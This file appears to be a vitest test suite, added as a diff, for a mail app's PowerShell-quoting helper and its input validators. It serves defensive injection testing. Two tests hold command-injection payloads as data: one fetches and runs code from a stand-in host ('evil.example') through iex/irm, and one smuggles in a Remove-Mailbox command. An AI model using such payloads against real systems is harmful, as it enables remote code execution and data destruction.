@@ -1,0 +1,130 @@
+import { eq } from "drizzle-orm";
+import { beforeAll, describe, expect, it } from "vitest";
+import type { Db } from "@/db/client";
+import { type Mailbox, mailboxes } from "@/db/schema";
+import { createMailbox } from "@/lib/mailbox/save";
+import { saveMailboxSchema } from "@/lib/mailbox/schema";
+import { powerShellQuoted } from "@/lib/powershell";
+import { setupChecklist } from "@/lib/service/checklist";
+import { entraSetupStartSchema } from "@/lib/service/entra-setups/schema";
+import { createTenantSchema } from "@/lib/tenants/schema";
+import { freshDb, seedWorld, type World } from "../support/db";
+import { mailboxForm, mailboxInput } from "../support/mailbox";
+
+// PowerShell's single-quoted string as its tokenizer reads it: any of the four single-quote
+// characters ends it, unless another one follows, which stands for itself.
+const QUOTES = new Set(["'", "\u2018", "\u2019", "\u201A", "\u201B"]);
+function readSingleQuoted(text: string): { value: string; end: number } {
+  if (!QUOTES.has(text[0]!)) throw new Error("not a single-quoted string");
+  let value = "";
+  for (let i = 1; i < text.length; i++) {
+    const c = text[i]!;
+    if (QUOTES.has(c)) {
+      if (!QUOTES.has(text[i + 1] ?? "")) return { value, end: i + 1 };
+      i += 1;
+      value += text[i];
+      continue;
+    }
+    value += c;
+  }
+  throw new Error("the string never ends");
+}
+
+// A small deterministic generator, so that a failure can be replayed.
+function random(seed: number) {
+  let state = seed;
+  return () => {
+    state = (state * 1103515245 + 12345) % 2 ** 31;
+    return state / 2 ** 31;
+  };
+}
+const ALPHABET = [..."ab@.-_ $();`\"'\u2018\u2019\u201A\u201B\u201C\u201D|&<>{}#\n\t\u0000\u00A0é🙂"];
+
+describe("PowerShell the admin pastes", () => {
+  it("keeps every value one single-quoted argument that ends where it should, over random strings", () => {
+    const next = random(20261202);
+    for (let n = 0; n < 5000; n++) {
+      const length = Math.floor(next() * 24);
+      const value = Array.from({ length }, () => ALPHABET[Math.floor(next() * ALPHABET.length)]).join("");
+      const quoted = powerShellQuoted(value);
+      const read = readSingleQuoted(`${quoted} -NextParameter`);
+      expect(read.end, JSON.stringify(value)).toBe(quoted.length);
+      expect(read.value).toBe(value);
+    }
+  });
+
+  it("quotes the payloads an attacker would try", () => {
+    for (const value of [
+      "inv@contoso.com;iex(irm('https://evil.example/p'))",
+      `x"'…$(Get-Process)`,
+      "a\u2019; Remove-Mailbox -Identity boss@contoso.com",
+      "$env:USERPROFILE`n",
+    ]) {
+      const quoted = powerShellQuoted(value);
+      expect(readSingleQuoted(quoted)).toEqual({ value, end: quoted.length });
+    }
+  });
+
+  describe("in the setup checklist", () => {
+    let db: Db;
+    let world: World;
+    let row: Mailbox;
+    beforeAll(async () => {
+      db = freshDb();
+      world = await seedWorld(db);
+      const name = `x"'…$(Get-Process)`;
+      const mailbox = createMailbox(db, world.root, mailboxInput(world.tenantA.id, { name }));
+      row = db.select().from(mailboxes).where(eq(mailboxes.id, mailbox.id)).get()!;
+    });
+
+    it("puts the mailbox's name, Login and the app's IDs into single quotes on every line", () => {
+      const items = setupChecklist({ ...row, signInMethod: "app" }, undefined, {
+        servicePrincipalId: "6a1b-'sp",
+      });
+      const lines = items.flatMap((item) => (item.command ? item.command.split("\n") : []));
+      expect(lines).toContain(
+        `New-ServicePrincipal -AppId '${row.azureClientId}' -ObjectId '6a1b-''sp' -DisplayName 'Navigator Mail x"''…$(Get-Process)'`,
+      );
+      expect(lines).toContain(
+        `Add-MailboxPermission -Identity '${row.login}' -User '6a1b-''sp' -AccessRights FullAccess`,
+      );
+      expect(lines).toContain(`Set-CASMailbox -Identity '${row.login}' -SmtpClientAuthenticationDisabled $false`);
+      expect(lines).toContain(`Set-CASMailbox -Identity '${row.login}' -ImapEnabled $true`);
+    });
+
+    it("encodes the IDs in the admin-consent address", () => {
+      const items = setupChecklist({ ...row, azureTenantId: "contoso.com/../x?y" }, undefined);
+      const consent = items.find((item) => item.command?.includes("adminconsent"))!;
+      expect(consent.command).toContain("/contoso.com%2F..%2Fx%3Fy/adminconsent?client_id=");
+    });
+  });
+
+  it("refuses a Login that is not a plain sign-in name", () => {
+    for (const login of [
+      "inv@contoso.com;iex(irm('https://evil.example/p'))",
+      "inv'@contoso.com",
+      'inv"@contoso.com',
+      "inv@contoso.com\u0007",
+      "inv @contoso.com",
+      "inv@@contoso.com",
+      "inv\u2019x@contoso.com",
+    ]) {
+      const parsed = saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ login }) });
+      expect(parsed.success, login).toBe(false);
+      expect(parsed.error?.flatten().fieldErrors.login?.[0]).toContain("no spaces, quotes or semicolons");
+    }
+    expect(
+      saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ login: "in.v+x@contoso.com" }) }).success,
+    ).toBe(true);
+  });
+
+  it("refuses control characters in the names that reach a command line", () => {
+    const name = "Invoices\u001b[2J";
+    expect(saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ name }) }).success).toBe(false);
+    expect(createTenantSchema.safeParse({ name, slug: "acme" }).success).toBe(false);
+    expect(entraSetupStartSchema.safeParse({ directory: "contoso.com", appName: "App\u0085" }).success).toBe(false);
+    expect(entraSetupStartSchema.safeParse({ directory: "contoso.com", appName: `x"'…$(Get-Process)` }).success).toBe(
+      true,
+    );
+  });
+});
